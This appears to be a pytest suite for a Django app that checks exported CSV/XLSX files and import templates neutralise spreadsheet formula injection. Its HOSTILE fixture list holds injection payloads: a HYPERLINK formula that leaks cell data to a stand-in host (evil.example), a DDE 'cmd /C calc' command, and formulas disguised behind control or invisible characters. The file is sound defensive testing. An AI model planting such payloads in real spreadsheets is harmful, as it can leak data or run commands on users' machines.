"""No cell of any CSV or XLSX the product writes is ever a formula (issue 11, "Formulas get
into exported spreadsheets"): every download and template, with hostile text that hides its
``=`` behind a control character, whitespace or an invisible character.

The hostile values are written straight into the database (factories, no form): they stand
for data entered before control characters were refused at input, and for what an immutable
report run froze then.
"""

from __future__ import annotations

import csv
import io
import json
import unicodedata
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from clusters.imports.files import template_csv, template_xlsx
from clusters.models import StaffRole
from clusters.spreadsheets import csv_bytes, neutralise, xlsx_bytes
from reports.models import ReportRun
from reports.services import report_run_compute
from tests.factories.clusters import ClusterRoleFactory
from tests.factories.members import OrganizationFactory
from tests.factories.projects import EnrolmentFactory, ProjectFactory
from tests.factories.reports import ReportRunFactory
from tests.reports.conftest import enrol_active_firm, programme_taken_part_in, project_funded_by

pytestmark = pytest.mark.django_db

HOSTILE = [
    '\x01=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "\x00=1+1",
    "\x1b\x7f\x85+cmd|' /C calc'!A0",
    " =HYPERLINK(1)",
    "\u00a0\u200b@SUM(1+1)*cmd",
    "\t=1+1",
    "\r\n-2+3",
    "\n=1",
    "\uff1dHYPERLINK(1)",
]
HOSTILE_NAME = HOSTILE[0]
# What a database can hold: PostgreSQL refuses NUL in text.
STORABLE = [value for value in HOSTILE if "\x00" not in value]


def is_inert(cell) -> bool:
    """Text a spreadsheet shows as it is: no control character, and either quoted or with
    nothing a spreadsheet runs at its start."""
    if not isinstance(cell, str):
        return True
    if any(ord(char) < 32 and char not in "\t\n\r" or 0x7F <= ord(char) <= 0x9F for char in cell):
        return False
    if cell.startswith("'") or is_number(cell):
        return True
    if cell[:1] in ("\t", "\r", "\n"):
        return False
    visible = [char for char in cell if not char.isspace() and unicodedata.category(char) != "Cf"]
    return visible[:1] not in (["="], ["+"], ["-"], ["@"], ["\uff1d"], ["\uff0b"], ["\uff0d"])


def is_number(text: str) -> bool:
    """A CSV cell such as "-5": a spreadsheet reads a number, which runs nothing."""
    try:
        float(text)
    except ValueError:
        return False
    return True


def csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_csv_inert(content: bytes, *, holding: str) -> None:
    cells = csv_cells(content)
    assert [cell for cell in cells if not is_inert(cell)] == []
    assert any(holding in cell for cell in cells), "the hostile value is in the file, quoted"


def assert_xlsx_inert(content: bytes, *, holding: str) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    workbook = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    values = [cell.value for cell in cells]
    assert [value for value in values if not is_inert(value)] == []
    assert any(isinstance(value, str) and holding in value for value in values)


def assert_inert(file_format: str, content: bytes, *, holding: str) -> None:
    check = assert_csv_inert if file_format == "csv" else assert_xlsx_inert
    check(content, holding=holding)


# The writers ---------------------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_a_hostile_value_is_cleaned_then_quoted(value):
    cell = neutralise(value)
    assert cell.startswith("'")
    assert is_inert(cell)
    assert neutralise(cell) == cell


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_writers_neutralise_every_cell_even_when_the_caller_did_not(file_format):
    rows = [["name", "amount"], *[[value, -5] for value in HOSTILE]]
    content = csv_bytes(rows) if file_format == "csv" else xlsx_bytes("Sheet", rows)
    assert_inert(file_format, content, holding="HYPERLINK")


def test_an_xlsx_text_cell_is_a_string_and_numbers_stay_numbers():
    sheet = load_workbook(io.BytesIO(xlsx_bytes("S", [["=1+1", -5, None, 2.5]]))).active
    text, negative, empty, decimal = next(sheet.iter_rows())
    assert (text.value, text.data_type) == ("'=1+1", "s")
    assert (negative.value, empty.value, decimal.value) == (-5, None, 2.5)


def test_harmless_text_is_left_as_it_is():
    for value in ("Gävle Sealing AB", "Калуга", "a = b", "Line one\nline two", "50%"):
        assert neutralise(value) == value


# Member directory export ---------------------------------------------------------------------


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_member_export_writes_hostile_names_as_inert_text(
    client_for, manager_a, cluster_a, file_format
):
    for number, value in enumerate(STORABLE):
        OrganizationFactory(cluster=cluster_a, legal_name=value, region=value, city=f"C{number}")
    response = client_for(manager_a).get(reverse("members:directory-export", args=[file_format]))
    assert response.status_code == 200
    assert_inert(file_format, b"".join(response.streaming_content), holding="HYPERLINK")


# Participant list of a project ---------------------------------------------------------------


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_participant_list_writes_hostile_names_as_inert_text(
    client_for, manager_a, cluster_a, file_format
):
    project = ProjectFactory(cluster=cluster_a)
    for value in STORABLE:
        firm = OrganizationFactory(cluster=cluster_a, legal_name=value, region=value)
        EnrolmentFactory(project=project, organization=firm)
    url = reverse("projects:enrolment-export", kwargs={"slug": project.slug})
    response = client_for(manager_a).post(url, {"format": file_format})
    assert response.status_code == 200
    assert_inert(file_format, response.content, holding="HYPERLINK")


# Report downloads: from the run's stored (frozen) result ------------------------------------


@pytest.fixture
def frozen_run(settings, cluster_a, manager_a, funder_user) -> ReportRun:
    """A done run whose stored result holds a hostile region name (three firms there, so
    that no suppression hides it from the funder)."""
    settings.CELERY_TASK_ALWAYS_EAGER = True
    programme = programme_taken_part_in(cluster_a, funder_user.funder_link.funder, "X-ERDF")
    project = project_funded_by(cluster_a, "x-abroad", programme)
    coach = ClusterRoleFactory(cluster=cluster_a, role=StaffRole.COACH).user
    for _number in range(3):
        enrol_active_firm(project, HOSTILE_NAME, manager_a, coach)
    run = report_run_compute(run_id=ReportRunFactory(project=project).pk)
    run.refresh_from_db()
    regions = [row["region"] for row in json.loads(run.canonical)["figures"]["by_region"]]
    assert regions == [HOSTILE_NAME], "the hostile text is frozen into the run"
    return run


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_report_page_download_of_a_frozen_run_is_inert(
    client_for, manager_a, frozen_run, file_format
):
    url = reverse("reports:run-download", kwargs={"pk": frozen_run.pk, "fmt": file_format})
    response = client_for(manager_a).get(url)
    assert response.status_code == 200
    assert_inert(file_format, response.content, holding="HYPERLINK")


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("reader", ["manager_a", "funder_user"])
def test_the_api_download_of_a_frozen_run_is_inert(
    request, client_for, frozen_run, reader, file_format
):
    url = reverse("api:report-run-export", args=[frozen_run.pk])
    response = client_for(request.getfixturevalue(reader)).get(url, {"format": file_format})
    assert response.status_code == 200
    assert_inert(file_format, response.content, holding="HYPERLINK")


# Import templates ----------------------------------------------------------------------------


def test_the_import_templates_are_written_by_the_safe_writers():
    assert_csv_inert(template_csv(["name", HOSTILE_NAME]), holding="HYPERLINK")
    assert_xlsx_inert(template_xlsx({"sheet": ["name", HOSTILE_NAME]}), holding="HYPERLINK")
